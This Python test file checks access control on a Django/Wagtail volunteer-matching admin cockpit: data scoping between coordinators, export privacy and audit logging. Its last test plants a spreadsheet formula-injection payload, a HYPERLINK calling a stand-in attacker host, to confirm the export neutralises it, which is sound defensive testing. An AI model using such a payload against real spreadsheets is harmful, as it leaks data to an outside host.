"""No local coordinator reaches another's candidates: any cockpit URL, the export, Wagtail."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.urls import reverse

from buddy.cockpit import urls as cockpit_urls
from buddy.models import Exclusion, Proposal
from portal.models import AuditEvent

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(tree, gent_candidate, leuven_candidate, agency):
    gent = Proposal.objects.create(
        candidate=gent_candidate, initiative=tree["gent"], score=0.8, state="volunteer_accepted"
    )
    leuven = Proposal.objects.create(
        candidate=leuven_candidate, initiative=tree["leuven"], score=0.8, state="volunteer_accepted"
    )
    waiting = Proposal.objects.create(
        candidate=leuven_candidate, initiative=tree["gent"], score=0.6, state="proposed"
    )
    exclusion = Exclusion.objects.create(
        candidate=leuven_candidate, initiative=tree["leuven"], reason="test"
    )
    return {
        **tree,
        "gent_p": gent,
        "leuven_p": leuven,
        "waiting": waiting,
        "exclusion": exclusion,
        "sara": gent_candidate,
        "lars": leuven_candidate,
    }


def _foreign_requests(w):
    """Every cockpit URL, aimed at Leuven's proposal and candidate, as Griet of Gent would try."""
    lp, lars = w["leuven_p"].pk, w["lars"].pk
    return {
        "overview": ("get", reverse("buddy_admin:overview"), None),
        "proposals": ("get", reverse("buddy_admin:proposals"), None),
        "proposal_bulk": (
            "post",
            reverse("buddy_admin:proposal_bulk"),
            {"ids": [lp], "action": "discard"},
        ),
        "proposal": ("get", reverse("buddy_admin:proposal", args=[lp]), None),
        "proposal_action": (
            "post",
            reverse("buddy_admin:proposal_action", args=[lp, "local_accept"]),
            {},
        ),
        "candidates": ("get", reverse("buddy_admin:candidates"), None),
        "candidate": ("get", reverse("buddy_admin:candidate", args=[lars]), None),
        "candidate_erase": ("post", reverse("buddy_admin:candidate_erase", args=[lars]), {}),
        "exclusion_override": (
            "post",
            reverse("buddy_admin:exclusion_override", args=[w["exclusion"].pk]),
            {},
        ),
        "matching": ("post", reverse("buddy_admin:matching"), {"action": "preview"}),
        "export": ("get", reverse("buddy_admin:export") + "?email=1", None),
    }


def test_every_cockpit_url_is_checked(world):
    names = {pattern.name for pattern in cockpit_urls.urlpatterns}
    assert names == set(_foreign_requests(world))


def test_a_local_coordinator_never_reaches_another_coordinators_candidates(client, world):
    client.force_login(world["griet"])
    for name, (method, url, data) in _foreign_requests(world).items():
        response = getattr(client, method)(url, data or {})
        body = response.content.decode(errors="replace")
        assert response.status_code in (200, 302, 403, 404), name
        assert "Lars Leuven" not in body and "lars@example.org" not in body, name
        assert "Buddy Leuven" not in body, name
    world["leuven_p"].refresh_from_db()
    world["lars"].refresh_from_db()
    world["exclusion"].refresh_from_db()
    assert world["leuven_p"].state == "volunteer_accepted"
    assert world["lars"].status == "available" and world["exclusion"].overridden_at is None


def _not_found(response) -> bool:
    # Django's i18n middleware turns an unknown path into a redirect to /nl/...: also not found.
    return response.status_code == 404 or (
        response.status_code == 302 and response.url.startswith("/nl/admin/")
    )


def _forbidden(response) -> bool:
    # Wagtail's admin answers PermissionDenied with a redirect to its dashboard.
    return response.status_code == 403 or (
        response.status_code == 302 and response.url == "/admin/"
    )


def test_foreign_detail_urls_are_not_found_and_agency_tools_forbidden(client, world):
    client.force_login(world["griet"])
    requests = _foreign_requests(world)
    for name in ["proposal", "proposal_action", "candidate"]:
        method, url, data = requests[name]
        assert _not_found(getattr(client, method)(url, data or {})), name
    for name in ["proposal_bulk", "candidate_erase", "exclusion_override", "matching"]:
        method, url, data = requests[name]
        assert _forbidden(getattr(client, method)(url, data or {})), name


def test_own_candidate_details_only_after_the_volunteer_said_yes(client, world):
    client.force_login(world["griet"])
    accepted = client.get(reverse("buddy_admin:proposal", args=[world["gent_p"].pk]))
    assert "sara@example.org" in accepted.content.decode()
    waiting = client.get(reverse("buddy_admin:proposal", args=[world["waiting"].pk]))
    assert waiting.status_code == 200
    assert "lars@example.org" not in waiting.content.decode()
    assert "Lars" not in waiting.content.decode()
    listing = client.get(reverse("buddy_admin:candidates")).content.decode()
    assert "Sara Gent" in listing and "Lars" not in listing
    assert AuditEvent.objects.filter(action="buddy.candidate_view", user=world["griet"]).exists()


def test_export_is_scoped_and_without_email_unless_asked(client, world):
    client.force_login(world["griet"])
    rows = list(
        csv.DictReader(io.StringIO(client.get(reverse("buddy_admin:export")).content.decode()))
    )
    assert {r["initiative"] for r in rows} == {"Buddy Gent"}
    assert "email" not in rows[0]
    sara = next(r for r in rows if r["proposal"] == str(world["gent_p"].pk))
    assert sara["name"] == "Sara Gent"
    hidden = next(r for r in rows if r["proposal"] == str(world["waiting"].pk))
    assert hidden["name"] == "" and hidden["phone"] == ""
    with_email = client.get(reverse("buddy_admin:export") + "?email=1").content.decode()
    assert "sara@example.org" in with_email and "lars@example.org" not in with_email
    events = AuditEvent.objects.filter(action="buddy.export", user=world["griet"])
    assert sorted(e.detail.split("; ")[1] for e in events) == ["email=no", "email=yes"]


def test_agency_sees_everything_and_exports(client, world, agency):
    client.force_login(agency)
    body = client.get(reverse("buddy_admin:candidates")).content.decode()
    assert "Sara Gent" in body and "Lars Leuven" in body
    export = client.get(reverse("buddy_admin:export")).content.decode()
    assert "Buddy Leuven" in export and "Buddy Gent" in export and "@example.org" not in export


def test_staff_without_a_buddy_role_and_anonymous_visitors_are_kept_out(client, world):
    staff = get_user_model().objects.create_user("editor", "e@example.org", "x" * 16)
    staff.user_permissions.add(Permission.objects.get(codename="access_admin"))
    assert client.get(reverse("buddy_admin:overview")).status_code == 302  # to the login
    client.force_login(staff)
    for name, (method, url, data) in _foreign_requests(world).items():
        assert _forbidden(getattr(client, method)(url, data or {})), name


def test_wagtail_admin_exposes_no_candidate_data_elsewhere(client, world):
    client.force_login(world["griet"])
    for url in [
        "/admin/snippets/buddy/candidate/",
        "/admin/snippets/buddy/proposal/",
        f"/admin/pages/{world['leuven'].pk}/edit/",
        "/api/v1/buddy/candidates",
    ]:
        response = client.get(url)
        assert response.status_code in (302, 403, 404), url
        assert "Lars" not in response.content.decode(errors="replace"), url


def test_export_neutralises_formulas_in_names_and_phones(client, world, agency):
    """A volunteer who registers as "=HYPERLINK(...)" must not run a formula in the
    coordinator's spreadsheet: the cell starts with an apostrophe and stays text."""
    sara = world["sara"]
    sara.name = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    sara.phone = "+32 470 00 00 00"
    sara.email = "@sara@example.org"
    sara.save()
    client.force_login(agency)
    text = client.get(reverse("buddy_admin:export") + "?email=1").content.decode()
    rows = csv.DictReader(io.StringIO(text))
    row = next(r for r in rows if r["proposal"] == str(world["gent_p"].pk))
    assert row["name"] == "'" + sara.name
    assert row["phone"] == "'+32 470 00 00 00"
    assert row["email"] == "'@sara@example.org"
    assert row["initiative"] == "Buddy Gent"  # ordinary text is left as it is
